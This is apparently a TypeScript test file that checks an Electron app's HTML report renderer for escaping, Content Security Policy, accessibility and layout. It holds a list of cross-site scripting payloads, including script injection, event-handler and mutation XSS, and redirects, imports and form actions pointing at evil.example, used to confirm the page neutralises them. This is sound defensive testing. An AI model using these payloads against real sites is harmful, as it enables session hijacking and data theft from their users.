import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { cssString, html } from '../../electron/packs/html/html.ts';
import { renderHtml } from '../../electron/packs/html/renderHtml.ts';
import { composePack } from '../../shared/domain/pack/compose.ts';
import { PackSource } from '../../shared/domain/packSource.ts';
import { redact } from '../../shared/domain/redaction.ts';
import { hasChromium, launchChromium, type TestBrowser } from '../support/chromium.ts';
import { shapes } from './decks.ts';
import { asFile, squeezed, unescaped } from './extract.ts';
import { filled } from './fill.ts';
import { sampleSource } from './sample.ts';

// Whole decks and browsers: slow on a machine that does other things too.
vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

const pageOf = (source = sampleSource()) => renderHtml(composePack(redact(source, 'internal')));

const ATTACKS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror="alert(1)">',
  '<svg/onload=alert(1)>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  '` onmouseover=alert(1) `',
  '{{constructor.constructor("alert(1)")()}}',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\"; } @import "//evil.example/x.css"; *{color:red',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action=//evil.example><input name=x autofocus>',
  '<link rel=stylesheet href=//evil.example/x.css>',
];

/** A source with an attack in every text, each another. */
function attackedSource(): { source: PackSource; used: Set<string> } {
  let count = 0;
  const used = new Set<string>();
  const source = filled(
    PackSource,
    () => {
      const attack = ATTACKS[(count += 1) % ATTACKS.length] ?? '';
      used.add(attack);
      return attack;
    },
    () => 7,
  );
  return { source: { ...source, scorecard: { ...source.scorecard, asOf: '2026-11-14' }, barriers: source.barriers.map((barrier) => ({ ...barrier, resolvedOn: null })) }, used };
}

describe('text stays text', () => {
  test('in content and in attributes', () => {
    const attack = `<b>"it's" & \`more\`</b>`;
    expect(html`<p title="${attack}">${attack}</p>`.markup).toBe('<p title="&lt;b&gt;&quot;it&#39;s&quot; &amp; &#96;more&#96;&lt;/b&gt;">&lt;b&gt;&quot;it&#39;s&quot; &amp; &#96;more&#96;&lt;/b&gt;</p>');
  });
  test('pieces are joined as they are, nothing is nothing', () => {
    expect(html`<ul>${['a', 'b'].map((text) => html`<li>${text}</li>`)}${null}${false}${3}</ul>`.markup).toBe('<ul><li>a</li><li>b</li>3</ul>');
  });
  test('in a style sheet', () => {
    expect(cssString('A × B"}</style>')).toBe('"A \\d7  B\\22 \\7d \\3c \\2f style\\3e "');
  });
});

describe('the page', () => {
  const page = pageOf();
  test('is one file that asks for nothing', () => {
    expect(page).not.toMatch(/\b(?:src|href)="(?!#)/);
    expect(page).not.toMatch(/url\((?!data:font)|@import|https?:/);
    expect(Buffer.byteLength(page)).toBeLessThan(1_000_000);
  });
  test('lets run what it names by hash, and nothing else', () => {
    expect(page).toMatch(/Content-Security-Policy" content="default-src &#39;none&#39;; style-src &#39;sha256-[^;]+&#39;; font-src data:; script-src &#39;sha256-[^;]+&#39;; base-uri &#39;none&#39;; form-action &#39;none&#39;"/);
    expect(page).not.toMatch(/ style="| on\w+="/);
  });
  test('has a language, one heading of the first level, and headers that say what they head', () => {
    expect(page).toContain('<html lang="en">');
    expect(page.match(/<h1/g)).toHaveLength(1);
    expect(page).not.toMatch(/<th(?!ead)(?! scope=")/);
  });
  test('is the same for the same pack', () => expect(pageOf()).toBe(page));
  test('shows every figure', () => {
    const text = squeezed(unescaped(page.replace(/<[^>]+>/g, '')));
    for (const figure of composePack(redact(sampleSource(), 'internal')).sections.flatMap((section) => section.figures)) expect(text).toContain(squeezed(figure.text));
  });
});

describe.skipIf(!hasChromium)('in a browser', () => {
  let browser: TestBrowser;
  beforeAll(async () => {
    browser = await launchChromium();
  }, 60_000);
  afterAll(() => browser.close());

  async function opened(markup: string, width = 1280): Promise<{ page: Page; trouble: string[] }> {
    const page = await browser.context.newPage();
    await page.setViewportSize({ width, height: 800 });
    const trouble: string[] = [];
    page.on('dialog', (dialog) => {
      trouble.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('console', (message) => trouble.push(`console ${message.text()}`));
    page.on('pageerror', (error) => trouble.push(`error ${error.message}`));
    page.on('request', (request) => request.url().startsWith('file:') || trouble.push(`request ${request.url()}`));
    await asFile(markup, 'pack.html', async (path) => {
      await page.goto(`file://${path}`);
      await page.waitForTimeout(200);
    });
    return { page, trouble };
  }

  test('no attack runs, and each is shown as it was written', async () => {
    const { source, used } = attackedSource();
    expect(used.size).toBe(ATTACKS.length);
    for (const audience of ['internal', 'partner'] as const) {
      const { page, trouble } = await opened(renderHtml(composePack(redact(source, audience))));
      expect(trouble).toEqual([]);
      expect(await page.evaluate(() => document.querySelectorAll('script, img, iframe, form, link, object, embed, base').length)).toBe(1);
      const text = (await page.evaluate(() => document.body.textContent)) ?? '';
      for (const attack of ATTACKS) expect(text, attack).toContain(attack);
      await page.close();
    }
  });

  test('the ledger sorts and filters by row', async () => {
    const { page, trouble } = await opened(pageOf());
    const spine = () => page.locator('.ledger tbody:not([hidden]) .spine').allTextContents();
    const before = await spine();
    expect(before[0]).toBe('Revenue, public sector');
    await page.getByRole('button', { name: 'What Halden promised' }).click();
    expect((await spine())[0]).toBe('Executive governance');
    await page.getByRole('button', { name: 'What Halden promised' }).click();
    expect((await spine())[0]).toBe('Joint solution');
    expect(await page.locator('.ledger th[aria-sort=descending]').count()).toBe(1);
    await page.getByRole('button', { name: 'What Halden promised' }).click();
    expect(await spine()).toEqual(before);
    await page.getByLabel('Status').selectOption('◐ At risk');
    expect(await spine()).toEqual(['Joint pipeline']);
    expect(await page.locator('.filters output').textContent()).toBe('1 of 5 rows');
    await page.getByLabel('Status').selectOption('All');
    await page.getByLabel('Find').fill('lindqvist');
    expect(await spine()).toEqual(['Revenue, public sector']);
    expect(trouble).toEqual([]);
    await page.close();
  });

  test.for(Object.keys(shapes))('%s fits a phone, nothing wider than the screen', async (shape) => {
    const { page, trouble } = await opened(pageOf(shapes[shape]?.()), 360);
    expect(trouble).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    await page.close();
  });
});
